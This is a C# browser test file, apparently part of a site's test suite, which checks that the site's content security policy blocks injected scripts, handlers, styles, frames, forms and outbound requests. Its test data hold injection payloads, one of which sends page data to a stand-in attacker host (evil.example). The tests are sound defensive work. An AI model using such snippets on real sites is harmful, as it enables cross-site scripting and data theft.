namespace Pathways.Browser.Tests.Navigation;

/// <summary>What somebody gets into a page is neither run nor shown nor sent: the browser holds the policy of the site.</summary>
[Collection(BrowserSites.Rooms)]
public sealed class PolicyTests(BrowserSite site) : SiteTests(site)
{
    [Theory]
    [InlineData("a script", "const s = document.createElement('script'); s.textContent = 'window.got = 1'; document.body.append(s)")]
    [InlineData("a script of another site", "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)")]
    [InlineData("what is run on a click", "const b = document.createElement('button'); b.setAttribute('onclick', 'window.got = 1'); document.body.append(b); b.click()")]
    [InlineData("a style", "const s = document.createElement('style'); s.textContent = 'body { display: none }'; document.head.append(s); if (getComputedStyle(document.body).display === 'none') window.got = 1")]
    [InlineData("a frame", "const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f)")]
    [InlineData("what is sent elsewhere", "fetch('https://evil.example/?' + document.title).then(() => window.got = 1).catch(() => 0)")]
    [InlineData("a form to another site", "const f = document.createElement('form'); f.action = 'https://evil.example/'; document.body.append(f); f.submit()")]
    public async Task What_comes_into_a_page_is_not_run(string what, string script)
    {
        var page = await Site.SignedInAsync("hugo:evaluator:");
        await page.GotoAsync("/board");
        await page.EvaluateAsync($"() => {{ {script} }}");
        for (var look = 0; look < 100 && Site.Forbidden.IsEmpty; look++)
        {
            await page.WaitForTimeoutAsync(50);
        }
        Assert.True(!Site.Forbidden.IsEmpty, $"Nothing was forbidden: {what}");
        Site.Forbidden.Clear();
        Assert.False(await page.EvaluateAsync<bool>("window.got === 1"), what);
        Assert.StartsWith(Site.Address, page.Url, StringComparison.Ordinal);
    }
}
